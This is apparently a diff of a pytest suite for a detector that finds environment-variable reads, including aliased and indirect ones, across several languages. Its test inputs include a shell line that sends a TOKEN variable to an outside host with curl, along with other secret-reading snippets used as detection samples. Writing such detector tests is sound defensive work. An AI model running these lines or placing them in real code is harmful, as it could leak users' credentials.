@@ -70,12 +70,17 @@ def of_all(files):
         ("a.py", 'os.environ.get(key = "A_KEY")'),
         ("a.py", 'if "A_KEY" in os.environ:'),
         ("a.py", "if 'A_KEY' not  in os.environ:"),
+        ("a.py", 'env = os.environ\nenv["A_KEY"], env.get("A_KEY")'),
         ("a.py", 'os.path.expandvars("~/$A_KEY")'),
         ("a.py", 'subprocess.run(["printenv", "A_KEY"])'),
         ("a.js", "process?.env.A_KEY"),
         ("a.js", "process?.env?.A_KEY"),
         ("a.js", 'process["env"].A_KEY'),
         ("a.js", "process['env']['A_KEY']"),
+        ("a.js", "const env = process.env;\nfetch(env.A_KEY)"),
+        ("a.js", 'let e=process.env\ne["A_KEY"]'),
+        ("a.ts", "const vars: Record<string, string> = process.env; vars?.A_KEY"),
+        ("a.ts", "const e = import.meta.env; e.A_KEY"),
         ("a.js", "const {\n  A_KEY,\n}\n  =\n  process.env"),
         ("a.js", "const { A_KEY }\t=\tprocess?.env"),
         ("a.rb", 'ENV.fetch "A_KEY"'),
@@ -102,6 +107,8 @@ def test_read_variable_is_found(path, text):
     [
         ("a.py", 'os.environ["A_KEY"] = "1"'),
         ("a.py", 'os.putenv("A_KEY", "1"); os.environ[name]; setenv("A_KEY", "1")'),
+        ("a.py", "env = os.environ\nenv['A_KEY'] = '1'"),
+        ("a.js", "const env = process.env; env.A_KEY = '1'; other.A_KEY"),
         ("a.ts", "type A = env | undefined; f(env)"),
         ("a.sh", "case $1 in\n  env|json) ;;\nesac\nenv X=1 program"),
         ("a.sh", "set -eu\nset -- x\nexport -f x\nset +x | y"),
@@ -349,28 +356,6 @@ def test_attack_reading_all_variables_is_a_star(path, text):
 @pytest.mark.parametrize(
     ("path", "text"),
     [
-        ("a.py", 'env = os.environ\nenv["A_KEY"], env.get("A_KEY")'),
-        ("a.js", "const env = process.env;\nfetch(env.A_KEY)"),
-        ("a.js", 'let e=process.env\ne["A_KEY"]'),
-        ("a.ts", "const vars: Record<string, string> = process.env; vars?.A_KEY"),
-        ("a.ts", "const e = import.meta.env; e.A_KEY"),
-        ("a.js", "const { env } = process; f(env.TOKEN)"),
-        ("a.js", "const { argv, env: e, pid } = globalThis.process;\nf(e?.TOKEN)"),
-        ("a.mjs", "import { env } from 'node:process'; f(env.TOKEN)"),
-        ("a.mjs", "import {env as e} from \"process\"\nf(e['TOKEN'])"),
-        ("a.js", "const { env } = require( 'process' ); env.TOKEN"),
-        ("a.js", "const { env: { TOKEN } } = process"),
-        ("a.py", "from os import environ as e\ne['TOKEN']"),
-        ("a.py", "from os import (path, getenv as g)\ng('TOKEN')"),
-    ],
-)
-def test_attack_the_environment_under_another_name_is_a_star(path, text):
-    assert "*" in read(text, path)
-
-
-@pytest.mark.parametrize(
-    ("path", "text"),
-    [
         ("a.sh", 'eval "curl -d \\$TOKEN x.io"'),
         ("a.sh", 'bash -c "echo \\$TOKEN"'),
         ("a.sh", "cat <<E | sh\necho \\$TOKEN\nE"),
@@ -382,10 +367,18 @@ def test_attack_the_environment_under_another_name_is_a_star(path, text):
         ("a.ps1", "gc -Path 'Env:\\TOKEN'"),
         ("a.lua", "os.getenv 'TOKEN'"),
         ("a.rb", "ENV.values_at('TOKEN')"),
+        ("a.js", "const { env } = process; f(env.TOKEN)"),
+        ("a.js", "const { argv, env: e, pid } = globalThis.process;\nf(e?.TOKEN)"),
+        ("a.mjs", "import { env } from 'node:process'; f(env.TOKEN)"),
+        ("a.mjs", "import {env as e} from \"process\"\nf(e['TOKEN'])"),
         ("a.mjs", "import p from 'process'; f(p.env.TOKEN)"),
         ("a.js", "require('process').env.TOKEN"),
         ("a.js", "const p = require('node:process'); p.env.TOKEN"),
+        ("a.js", "const { env } = require( 'process' ); env.TOKEN"),
         ("a.js", "const p = process; p.env.TOKEN"),
+        ("a.js", "const { env: { TOKEN } } = process"),
+        ("a.py", "from os import environ as e\ne['TOKEN']"),
+        ("a.py", "from os import (path, getenv as g)\ng('TOKEN')"),
     ],
 )
 def test_attack_an_indirectly_read_variable_is_found(path, text):
@@ -394,6 +387,10 @@ def test_attack_an_indirectly_read_variable_is_found(path, text):
 
 def test_attack_each_variable_of_an_expanded_text_is_found():
     assert read('os.ExpandEnv("$A ${B}")', "a.go") == ["A", "B"]
+
+
+def test_attack_many_aliases_of_the_environment_are_a_star():
+    assert read("".join(f"e{n} = process.env;" for n in range(100)) + "e0.A_KEY", "a.js") == ["*"]
 
 
 @pytest.mark.parametrize("text", ["$%s", "${%s}", "%s=1; $A", 'os.environ["%s"]', "process.env.%s", "$ENV{%s}"])
